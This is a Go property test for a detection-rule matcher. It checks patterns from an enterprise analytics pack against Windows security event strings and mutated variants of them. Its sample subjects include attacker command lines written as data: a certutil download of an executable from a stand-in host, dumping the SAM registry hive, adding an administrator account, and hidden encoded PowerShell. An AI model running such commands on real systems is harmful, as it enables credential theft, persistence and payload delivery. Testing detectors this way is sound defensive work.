package relit

import (
	"math/rand"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// quoted finds the quoted strings of a pack file: YAML single-quoted scalars (a doubled
// quote stands for one), CEL raw strings and double-quoted strings. Whatever else they
// catch and compiles is one more pattern to check.
var quoted = regexp.MustCompile(`'((?:[^'\n]|'')*)'|r"([^"\n]*)"|"((?:[^"\\\n]|\\.)*)"`)

// packPatterns returns the distinct strings quoted in the built-in pack that compile as
// regular expressions.
func packPatterns(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("..", "..", "analytics", "enterprise", "*.yaml"))
	require.NoError(t, err)
	require.NotEmpty(t, files, "the built-in pack is missing")
	seen := map[string]bool{}
	for _, f := range files {
		data, err := os.ReadFile(f)
		require.NoError(t, err)
		for _, m := range quoted.FindAllStringSubmatch(string(data), -1) {
			for _, p := range candidates(m) {
				if _, err := regexp.Compile(p); err == nil {
					seen[p] = true
				}
			}
		}
	}
	out := make([]string, 0, len(seen))
	for p := range seen {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// candidates returns the readings of one quoted match: raw, YAML-unescaped, Go-unquoted.
func candidates(m []string) []string {
	switch {
	case m[1] != "" || strings.HasPrefix(m[0], "'"):
		raw := strings.ReplaceAll(m[1], "''", "'")
		out := []string{raw, m[1]}
		if u, err := strconv.Unquote(`"` + strings.ReplaceAll(m[1], `"`, `\"`) + `"`); err == nil {
			out = append(out, u)
		}
		return out
	case m[2] != "":
		return []string{m[2]}
	}
	out := []string{m[3]}
	if u, err := strconv.Unquote(`"` + m[3] + `"`); err == nil {
		out = append(out, u)
	}
	return out
}

// baseSubjects are realistic fields of Windows security events.
var baseSubjects = []string{
	``, `0x1438`, `0x1410`, `0x1FFFFF`, `0x1000`, `0x40`, `%%1537`,
	`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\wbem\WmiPrvSE.exe`,
	`C:\Windows\System32\wbem\mofcomp.exe`, `C:\Windows\System32\wbem\scrcons.exe`,
	`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\System32\cmd.exe`,
	`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
	`C:\Users\alice\AppData\Local\Temp\evil.exe`, `C:\ProgramData\x\payload.dll`,
	`"C:\Windows\system32\cmd.exe" /c tasklist /v`, `tasklist /fi "imagename eq notepad.exe"`,
	`wmic process call create "calc.exe"`, `wmic /node:srv process list brief`,
	`powershell.exe -nop -w hidden -enc SQBFAFgA`, `powershell -c Get-Process | Out-File x`,
	`mofcomp.exe C:\Users\bob\Desktop\evil.mof`, `mofcomp "\\fileserver\share\x.mof"`,
	`certutil -urlcache -split -f http://x/y.exe y.exe`, `reg save HKLM\SAM C:\temp\sam.save`,
	`\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`,
	`HKLM\System\CurrentControlSet\Services\evil\ImagePath`, `schtasks /create /tn x /tr c:\x.exe`,
	`net user /add bob P@ss`, `net1 localgroup administrators bob /add`,
	`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`, `mshta vbscript:Execute("x")`,
	"C:\\Users\\J\u00fcrgen\\AppData\\x.exe", "C:\\\u212aelvin\\\u017fvchost.exe", "C:\\Windows\\\xff\xfe.exe",
	"cmd.exe\x00", "\xe2\x84\xaa", "\xe2\x84", "\xc5\xbf", "\xc5", "line1\nline2",
}

// variants returns subjects built around a literal: itself, cased, wrapped, with its k and s
// swapped for their non-ASCII folds, and with invalid bytes.
func variants(l string) []string {
	return []string{
		l, strings.ToUpper(l), strings.ToLower(l), mixCase(l),
		`C:\x` + l, l + `.bak`, `C:\x` + l + ` /c`, "\n" + l, l + "\n",
		strings.ReplaceAll(l, "k", "\u212a"), strings.ReplaceAll(l, "s", "\u017f"),
		strings.ReplaceAll(strings.ToUpper(l), "S", "\u017f"), "\xff" + l, l + "\xff",
		l[:len(l)/2] + "\xff" + l[len(l)/2:], l[:len(l)/2],
	}
}

// mixCase flips the case of every other letter.
func mixCase(s string) string {
	b := []byte(s)
	for i := 0; i < len(b); i += 2 {
		switch {
		case isLowerASCII(b[i]):
			b[i] -= 'a' - 'A'
		case isUpperASCII(b[i]):
			b[i] += 'a' - 'A'
		}
	}
	return string(b)
}

// mutate returns s with a few random edits: byte changes, case flips, inserted and deleted
// bytes, and inserted non-ASCII or invalid sequences.
func mutate(rng *rand.Rand, s string) string {
	inserts := []string{"\u212a", "\u017f", "\xff", "\xe2\x84", "\\", ".", "$", "\n", "k", "S", " ", "\""}
	b := []byte(s)
	for n := 1 + rng.Intn(3); n > 0; n-- {
		i := 0
		if len(b) > 0 {
			i = rng.Intn(len(b))
		}
		switch op := rng.Intn(4); {
		case op == 0 && len(b) > 0:
			b[i] ^= 0x20
		case op == 1 && len(b) > 0:
			b = append(b[:i], b[i+1:]...)
		case op == 2 && len(b) > 0:
			b[i] = byte(rng.Intn(256))
		default:
			ins := inserts[rng.Intn(len(inserts))]
			b = append(b[:i], append([]byte(ins), b[i:]...)...)
		}
	}
	return string(b)
}

// TestPackPatternsProperty checks every pattern of the built-in pack against realistic
// subjects, subjects made of its own literals, and random mutations of both.
func TestPackPatternsProperty(t *testing.T) {
	patterns := packPatterns(t)
	require.Greater(t, len(patterns), 50, "too few patterns extracted from the pack")
	rng := rand.New(rand.NewSource(1))
	kinds := map[kind]int{}
	for _, p := range patterns {
		m, err := Compile(p)
		require.NoError(t, err)
		kinds[m.kind]++
		subjects := append([]string(nil), baseSubjects...)
		for _, l := range m.set.lits {
			subjects = append(subjects, variants(l.s)...)
		}
		for i, n := 0, len(subjects); i < n; i++ {
			for j := 0; j < 2; j++ {
				subjects = append(subjects, mutate(rng, subjects[i]))
			}
		}
		requireSame(t, m, subjects...)
	}
	t.Logf("%d patterns: %d exact, %d prefilter, %d regexp", len(patterns), kinds[kindExact], kinds[kindPrefilter], kinds[kindRegexp])
}
